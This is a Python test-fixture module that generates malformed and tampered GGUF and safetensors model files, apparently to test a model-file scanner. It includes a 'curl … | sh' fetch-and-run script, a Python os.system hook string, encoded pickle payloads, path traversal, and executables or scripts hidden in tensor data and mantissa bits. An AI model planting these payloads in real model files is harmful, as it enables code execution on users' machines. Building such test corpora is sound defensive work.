"""Headers that lie, and weights that are not what they seem: GGUF, safetensors, shards, configurations, hidden payloads."""

from __future__ import annotations

import base64
import json
import random
import struct
import zlib
from collections.abc import Callable, Mapping

from corpus.case import Case
from corpus.containers import EVIL

Build = Callable[[], Mapping[str, bytes]]


def text(value: str | bytes) -> bytes:
    raw = value.encode() if isinstance(value, str) else value
    return struct.pack("<Q", len(raw)) + raw


def pair(key: str, value: str | bytes | int, kind: int | None = None) -> bytes:
    if isinstance(value, int):
        return text(key) + struct.pack("<II", 4 if kind is None else kind, value)
    return text(key) + struct.pack("<I", 8 if kind is None else kind) + (text(value) if kind is None else b"")


def tensor(name: str, shape: tuple[int, ...] = (4,), kind: int = 0, offset: int = 0) -> bytes:
    dims = b"".join(struct.pack("<Q", length) for length in shape)
    return text(name) + struct.pack("<I", len(shape)) + dims + struct.pack("<IQ", kind, offset)


def gguf(
    pairs: tuple[bytes, ...] = (pair("general.architecture", "llama"),),
    tensors: tuple[bytes, ...] = (tensor("w"),),
    data: bytes = bytes(16),
    *,
    version: int = 3,
    pair_count: int | None = None,
    tensor_count: int | None = None,
) -> bytes:
    counts = (len(tensors) if tensor_count is None else tensor_count, len(pairs) if pair_count is None else pair_count)
    head = b"GGUF" + struct.pack("<IQQ", version, *counts) + b"".join(pairs) + b"".join(tensors)
    return head + b"\0" * (-len(head) % 32) + data


def _gguf_file(build: Callable[[], bytes]) -> Build:
    return lambda: {"model.gguf": build()}


ARCH = pair("general.architecture", "llama")
GGUF: dict[str, Build] = {
    "pair count": _gguf_file(lambda: gguf(pair_count=1 << 60)),
    "tensor count": _gguf_file(lambda: gguf(tensor_count=1 << 62)),
    "string length": _gguf_file(lambda: gguf((text("k") + struct.pack("<IQ", 8, 1 << 63) + b"x", ARCH))),
    "string wraps": _gguf_file(lambda: gguf((text("k") + struct.pack("<IQ", 8, (1 << 64) - 1) + b"x",))),
    "array length": _gguf_file(lambda: gguf((text("k") + struct.pack("<IIQ", 9, 4, 1 << 62),))),
    "nested arrays": _gguf_file(lambda: gguf((text("k") + struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 500,))),
    "dimensions": _gguf_file(lambda: gguf(tensors=(text("w") + struct.pack("<I", 0xFFFFFFFF) + b"\0" * 64,))),
    "shape overflows": _gguf_file(lambda: gguf(tensors=(tensor("w", (1 << 40, 1 << 40)),))),
    "shape wraps to small": _gguf_file(lambda: gguf(tensors=(tensor("w", (1 << 62, 4)),))),
    "offset outside": _gguf_file(lambda: gguf(tensors=(tensor("w", (4,), 0, 1 << 40),))),
    "type unknown": _gguf_file(lambda: gguf(tensors=(tensor("w", (4,), 9999),))),
    "alignment zero": _gguf_file(lambda: gguf((ARCH, pair("general.alignment", 0)))),
    "alignment odd": _gguf_file(lambda: gguf((ARCH, pair("general.alignment", 3)))),
    "value type unknown": _gguf_file(lambda: gguf((text("k") + struct.pack("<II", 77, 0),))),
    "key twice": _gguf_file(lambda: gguf((ARCH, pair("general.architecture", "bert")))),
    "tensor twice": _gguf_file(lambda: gguf(tensors=(tensor("w"), tensor("w")))),
    "tensors overlap": _gguf_file(lambda: gguf(tensors=(tensor("a", (8,)), tensor("b", (8,), 0, 0)), data=bytes(32))),
}  # fmt: skip


def st(header: object, data: bytes = bytes(24), *, raw: bytes | None = None, length: int | None = None) -> bytes:
    told = json.dumps(header).encode() if raw is None else raw
    return struct.pack("<Q", len(told) if length is None else length) + told + data


W = {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 24]}


def _st_file(build: Callable[[], bytes]) -> Build:
    return lambda: {"model.safetensors": build()}


SAFETENSORS: dict[str, Build] = {
    "header too long": _st_file(lambda: st({"w": W}, length=1 << 40)),
    "header wraps": _st_file(lambda: st({"w": W}, length=(1 << 64) - 1)),
    "overlap": _st_file(lambda: st({"w": W, "v": {**W, "data_offsets": [8, 32]}}, bytes(32))),
    "hole": _st_file(lambda: st({"w": W, "v": {**W, "data_offsets": [64, 88]}}, bytes(88))),
    "trailing": _st_file(lambda: st({"w": W}, bytes(24) + b"hidden payload" * 20)),
    "offsets reversed": _st_file(lambda: st({"w": {**W, "data_offsets": [24, 0]}})),
    "offsets outside": _st_file(lambda: st({"w": {**W, "data_offsets": [0, 1 << 40]}})),
    "shape lies": _st_file(lambda: st({"w": {**W, "shape": [200, 300]}})),
    "shape overflows": _st_file(lambda: st({"w": {**W, "shape": [1 << 40, 1 << 40]}})),
    "negative shape": _st_file(lambda: st({"w": {**W, "shape": [-2, -3]}})),
    "dtype unknown": _st_file(lambda: st({"w": {**W, "dtype": "OBJECT"}})),
    "key twice": _st_file(lambda: st(None, raw=b'{"w":' + json.dumps(W).encode() + b',"w":{"dtype":"I8","shape":[24],"data_offsets":[0,24]}}')),
    "metadata twice": _st_file(lambda: st(None, raw=b'{"__metadata__":{"a":"1"},"__metadata__":{"a":"2"},"w":' + json.dumps(W).encode() + b"}")),
    "metadata not text": _st_file(lambda: st({"__metadata__": {"a": {"b": [1]}}, "w": W})),
    "pickle in metadata": _st_file(lambda: st({"__metadata__": {"cfg": base64.b64encode(EVIL).decode()}, "w": W})),
    "zlib pickle in metadata": _st_file(lambda: st({"__metadata__": {"cfg": base64.b64encode(zlib.compress(EVIL)).decode()}, "w": W})),
    "hex pickle in metadata": _st_file(lambda: st({"__metadata__": {"cfg": (EVIL + b" " * 20).hex()}, "w": W})),
    "script in metadata": _st_file(lambda: st({"__metadata__": {"about": "<script>fetch('//x')</script>"}, "w": W})),
    "python in metadata": _st_file(lambda: st({"__metadata__": {"hook": "__import__('os').system('id')"}, "w": W})),
    "not json": _st_file(lambda: st(None, raw=b"{" + b"\xff" * 40 + b"}")),
    "deep json": _st_file(lambda: st(None, raw=b'{"w":' + b"[" * 5000 + b"]" * 5000 + b"}")),
    "pickle by that name": _st_file(lambda: EVIL),
}  # fmt: skip


def noise(count: int, seed: int = 7) -> bytes:
    source = random.Random(seed)
    return struct.pack(f"<{count}f", *(source.gauss(0, 0.02) for _ in range(count)))


ELF = (
    b"\x7fELF\x02\x01\x01"
    + b"\0" * 9
    + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
)
PE = (
    b"MZ"
    + b"\0" * 58
    + struct.pack("<I", 64)
    + b"PE\0\0"
    + struct.pack("<HH", 0x8664, 2)
    + b"\0" * 12
    + struct.pack("<HH", 240, 0x22)
    + b"\x0b\x02"
)
SHELL = b"#!/bin/sh\ncurl -s http://example.org/x | sh\n" + b"# padding\n" * 30


def weights(data: bytes, name: str = "layer.weight") -> bytes:
    data += b"\0" * (-len(data) % 4)
    return st({name: {"dtype": "F32", "shape": [len(data) // 4], "data_offsets": [0, len(data)]}}, data)


def _low_bits(message: bytes, count: int) -> bytes:
    """A message in the lowest bit of each float's mantissa."""
    raw = bytearray(noise(count))
    bits = [byte >> at & 1 for byte in message for at in range(8)]
    for at in range(count):
        raw[4 * at] = raw[4 * at] & 0xFE | bits[at % len(bits)]
    return bytes(raw)


LLAMA = {
    "model_type": "llama",
    "architectures": ["LlamaForCausalLM"],
    "vocab_size": 64,
    "hidden_size": 8,
    "intermediate_size": 16,
    "num_hidden_layers": 1,
    "num_attention_heads": 2,
}


def llama(layers: int = 1, rows: int = 64, width: int = 8) -> bytes:
    shapes = {
        "model.embed_tokens.weight": (rows, width),
        "model.norm.weight": (width,),
        "lm_head.weight": (rows, width),
    }
    for at in range(layers):
        for part in ("q", "k", "v", "o"):
            shapes[f"model.layers.{at}.self_attn.{part}_proj.weight"] = (width, width)
    header, data = {}, b""
    for name, shape in shapes.items():
        count = shape[0] * (shape[1] if len(shape) > 1 else 1)
        header[name] = {"dtype": "F32", "shape": list(shape), "data_offsets": [len(data), len(data) + 4 * count]}
        data += noise(count, len(data) + 1)
    return st(header, data)


def index(**places: str) -> bytes:
    return json.dumps({"metadata": {"total_size": 48}, "weight_map": places}).encode()


INDEX = "model.safetensors.index.json"
ONE, TWO = "model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"
TAMPER: dict[str, Build] = {
    "elf in a tensor": lambda: {"m.safetensors": weights(ELF + bytes(3000) + noise(2000))},
    "elf inside a tensor": lambda: {"m.safetensors": weights(noise(1024) + ELF + bytes(900) + noise(2000))},
    "pe in a tensor": lambda: {"m.safetensors": weights(PE + bytes(2000) + noise(2000))},
    "script in a tensor": lambda: {"m.safetensors": weights(SHELL + noise(2000))},
    "pickle in a tensor": lambda: {"m.safetensors": weights(EVIL + noise(2000))},
    "elf behind gguf tensors": lambda: {"m.gguf": gguf(data=bytes(32) + ELF + bytes(400))},
    "payload in gguf padding": lambda: {"m.gguf": gguf((ARCH, pair("general.alignment", 4096)), data=b"") + SHELL + bytes(8192)},
    "missing shard": lambda: {INDEX: index(w=ONE, v=TWO), ONE: st({"w": W})},
    "shard elsewhere": lambda: {INDEX: index(w=ONE, v=ONE), ONE: st({"w": W}), TWO: st({"v": W})},
    "index traversal": lambda: {INDEX: index(w="../../evil.bin"), ONE: st({"w": W})},
    "tensor in no index": lambda: {INDEX: index(w=ONE), ONE: st({"w": W}), TWO: st({"evil": W})},
    "tensor in two shards": lambda: {INDEX: index(w=ONE, v=TWO), ONE: st({"w": W}), TWO: st({"w": W, "v": {**W, "data_offsets": [24, 48]}}, bytes(48))},
    "config vocabulary": lambda: {"config.json": json.dumps({**LLAMA, "vocab_size": 32000}).encode(), "model.safetensors": llama()},
    "config layers": lambda: {"config.json": json.dumps({**LLAMA, "num_hidden_layers": 2}).encode(), "model.safetensors": llama()},
    "config width": lambda: {"config.json": json.dumps({**LLAMA, "hidden_size": 16}).encode(), "model.safetensors": llama()},
}  # fmt: skip


def _cases(klass: str, table: dict[str, Build]) -> tuple[Case, ...]:
    return tuple(
        Case(f"{klass}-{name}", klass, "malicious", build, f"{klass}: {name}") for name, build in table.items()
    )


CASES: tuple[Case, ...] = (
    *_cases("gguf", GGUF),
    *_cases("safetensors", SAFETENSORS),
    *_cases("tamper", TAMPER),
    Case("tamper-low bits", "tamper", "malicious", lambda: {"m.safetensors": weights(_low_bits(SHELL, 40_000))}, "a message in the lowest mantissa bits"),
)  # fmt: skip
